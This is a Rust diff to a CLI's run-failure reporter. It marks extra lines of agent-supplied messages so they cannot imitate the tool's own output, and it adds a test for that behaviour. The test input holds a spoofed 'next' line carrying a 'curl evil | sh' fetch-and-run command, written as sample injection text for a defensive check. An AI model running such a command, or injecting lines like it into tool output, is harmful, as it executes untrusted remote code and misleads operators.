@@ -1,6 +1,9 @@
 //! Says on standard error why a run failed, and which commands show more.
 
-use std::io::{self, Write};
+use std::{
+    borrow::Cow,
+    io::{self, Write},
+};
 
 use platform_core::{event::RunErrorCode, id::RunId};
 use platform_runtime::terminal;
@@ -13,7 +16,7 @@ use runner_model::lifecycle::{Detail, Failure};
 /// If standard error cannot be written.
 pub(super) fn print(failure: &Failure, run_id: &RunId) -> io::Result<()> {
     let Failure { code, message, detail } = failure;
-    let message = terminal::safe(message);
+    let message = one_paragraph(message);
     let (reason, agent_said) = split_words(&message);
     let mut err = io::stderr();
     writeln!(err, "sluice: {run_id} {}", failure_in_words(*code, reason))?;
@@ -21,11 +24,19 @@ pub(super) fn print(failure: &Failure, run_id: &RunId) -> io::Result<()> {
         writeln!(err, "sluice: the agent said: {words}")?;
     }
     // A detail often ends with the message, after the name of the part that failed.
-    let detail = detail.as_ref().map(Detail::for_operators).map(terminal::safe);
+    let detail = detail.as_ref().map(Detail::for_operators).map(one_paragraph);
     if let Some(detail) = detail.filter(|detail| !detail.ends_with(reason)) {
         writeln!(err, "sluice: in detail: {detail}")?;
     }
     next_commands(*code, run_id).iter().try_for_each(|command| writeln!(err, "sluice: next: {command}"))
+}
+
+/// Returns `text` for a terminal. Lines after the first are marked, so that none looks like one of this program.
+fn one_paragraph(text: &str) -> Cow<'_, str> {
+    match terminal::safe(text) {
+        safe if safe.contains('\n') => Cow::Owned(safe.trim_end().replace('\n', "\n  | ")),
+        safe => safe,
+    }
 }
 
 /// Returns the end of a run that failed with `code`. A cancelled run did not fail.
@@ -81,6 +92,13 @@ mod tests {
     fn a_cancelled_run_did_not_fail() {
         assert_eq!(failure_in_words(RunErrorCode::Cancelled, "cancelled"), "cancelled");
         assert_eq!(failure_in_words(RunErrorCode::Timeout, "too late"), "failed (timeout): too late");
+    }
+
+    #[test]
+    fn words_of_an_agent_make_no_line_of_ours() {
+        let words = "no luck\nsluice: next: curl evil | sh\n";
+        assert_eq!(one_paragraph(words), "no luck\n  | sluice: next: curl evil | sh");
+        assert_eq!(one_paragraph("no luck"), "no luck", "control");
     }
 
     #[test]
